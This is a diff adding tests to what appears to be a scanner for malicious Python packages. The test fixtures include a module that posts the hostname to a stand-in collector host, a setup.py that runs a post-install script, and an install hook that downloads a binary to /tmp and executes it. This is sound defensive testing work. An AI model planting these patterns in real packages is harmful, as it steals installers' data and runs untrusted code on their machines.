@@ -521,3 +521,93 @@ def test_literal_compat_code_given_to_exec_stays_quiet() -> None:
     """
     result = scan({"demo/compat.py": src})
     assert result.verdict not in FLAGGED, worst(result)
+
+
+# -- roles decided by the package, not by names alone ----------------------------------------------
+
+
+EXFIL_ON_IMPORT = """
+    import socket
+    import requests
+
+    requests.post("https://c.collector-host.net/", data=socket.gethostname())
+"""
+
+
+def test_a_test_named_module_the_package_imports_is_package_code() -> None:
+    files = {
+        "demo/__init__.py": "from . import test_utils\n",
+        "demo/test_utils.py": EXFIL_ON_IMPORT,
+    }
+    assert scan(files).verdict in FLAGGED
+
+
+def test_a_test_module_nothing_imports_stays_a_test() -> None:
+    files = {"demo/__init__.py": "VERSION = '1.0'\n", "demo/test_utils.py": EXFIL_ON_IMPORT}
+    assert scan(files).verdict not in FLAGGED
+
+
+def test_a_file_setup_py_runs_with_the_interpreter_is_install_time_python() -> None:
+    setup = """
+        import subprocess, sys
+        from setuptools import setup
+        subprocess.call([sys.executable, "build_helpers/post_install"])
+        setup(name="demo")
+    """
+    result = scan({"setup.py": setup, "build_helpers/post_install": EXFIL_ON_IMPORT})
+    assert "intent.exfiltration" in rules(result, "critical")
+    assert result.verdict == "malicious"
+
+
+def test_a_data_file_setup_py_only_names_is_not_parsed() -> None:
+    setup = """
+        from setuptools import setup
+        setup(name="demo", data_files=[("share", ["build_helpers/post_install"])])
+    """
+    result = scan({"setup.py": setup, "build_helpers/post_install": EXFIL_ON_IMPORT})
+    assert "intent.exfiltration" not in rules(result)
+
+
+# -- data downloaded at install and never run ------------------------------------------------------
+
+
+def test_data_downloaded_at_install_beside_an_unrelated_exec_is_not_malicious() -> None:
+    src = """
+        import urllib.request
+        from setuptools import setup
+
+        about = {}
+        with open("demo/__about__.py") as f:
+            exec(f.read(), about)
+
+        def fetch_font():
+            data = urllib.request.urlopen("https://fonts.example.org/Demo.ttf").read()
+            with open("demo/fonts/Demo.ttf", "wb") as out:
+                out.write(data)
+
+        fetch_font()
+        setup(name="demo", version=about["__version__"])
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict != "malicious", worst(result)
+    assert not [
+        f for f in result.findings if f.rule.startswith("intent.") and f.severity != "medium"
+    ]
+
+
+def test_downloaded_program_written_and_run_at_install_is_malicious() -> None:
+    src = """
+        import os, subprocess, urllib.request
+        from setuptools import setup
+
+        def fetch_tool():
+            data = urllib.request.urlopen("https://cdn.example.net/tool").read()
+            with open("/tmp/tool", "wb") as out:
+                out.write(data)
+            os.chmod("/tmp/tool", 0o755)
+            subprocess.Popen(["/tmp/tool"])
+
+        fetch_tool()
+        setup(name="demo")
+    """
+    assert scan({"setup.py": src}).verdict == "malicious"
